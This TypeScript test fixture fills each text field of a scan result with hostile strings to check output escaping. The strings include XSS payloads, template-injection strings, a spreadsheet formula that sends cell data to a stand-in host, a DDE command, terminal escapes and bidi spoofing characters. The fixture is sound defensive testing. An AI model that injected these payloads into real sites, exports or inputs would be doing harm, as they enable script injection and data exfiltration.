import type { RunResult, SiteResult } from '../run/result.ts'
import { aResult, aRun } from './a-result.ts'

/** Texts that want to be run, to be formulas, or to be read otherwise than they stand. */
const hostileTexts: readonly string[] = [
  '<script>window.hacked=1</script>',
  '</script><script>window.hacked=2</script>',
  '"><img src=x onerror="window.hacked=3">',
  "' onmouseover='window.hacked=4",
  '<svg/onload=window.hacked=5>',
  'javascript:window.hacked=6',
  '<!--<script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
  '{{constructor.constructor("window.hacked=7")()}} ${window.hacked=8}',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\u001b[2J\u001b]0;owned\u0007',
  'gov.test\u202Emoc.live',
  'zero\u200Bwidth\u2066isolate',
  '\ud800 lone \u0000 null',
  `${'long-without-break'.repeat(40)}`,
  '[click](javascript:window.hacked=9)',
  '&lt;b&gt; &amp; \u2028 \u2029 ]]>',
]

/** The town, with a hostile text wherever a text of a site, a list or a certificate can stand. */
export function hostileResult(): RunResult {
  const { sites } = aResult()
  const hostile = sites.map((site, index): SiteResult => {
    const text = hostileTexts[index % hostileTexts.length]!
    return {
      ...site,
      site: {
        ...site.site,
        name: text,
        unit: text,
        contact: text,
        url: index % 3 === 0 ? 'javascript:window.hacked=10' : site.site.url,
        columns: [{ url: site.site.url, name: text }],
      },
      ...(site.failure && { failure: { ...site.failure, detail: text } }),
      ...(site.authorisation && { authorisation: { ...site.authorisation, proof: text } }),
      findings: site.findings.map((finding, n) => ({
        ...finding,
        at: ['target:', 'column:', 'header:', 'cookie:', 'page:'][n % 5]! + text,
        data: Object.fromEntries(
          Object.entries(finding.data).map(([key, v]) => [key, typeof v === 'string' ? text : v]),
        ),
        evidence: [{ text: `${text}\n${text}`, mark: [text, '<', ''], url: text }],
      })),
      indicators: site.indicators.map(indicator => ({
        ...indicator,
        title: { en: text, 'zh-CN': text },
        ...(indicator.person && { person: { en: text, 'zh-CN': text } }),
      })),
    }
  })
  return aRun(hostile, {
    ownNetwork: { state: 'failed', detail: hostileTexts[0]! },
    merged: hostileTexts.map((url, row) => ({ row, into: 0, url })),
    rejected: hostileTexts.map((message, row) => ({ row, column: message, message })),
  })
}
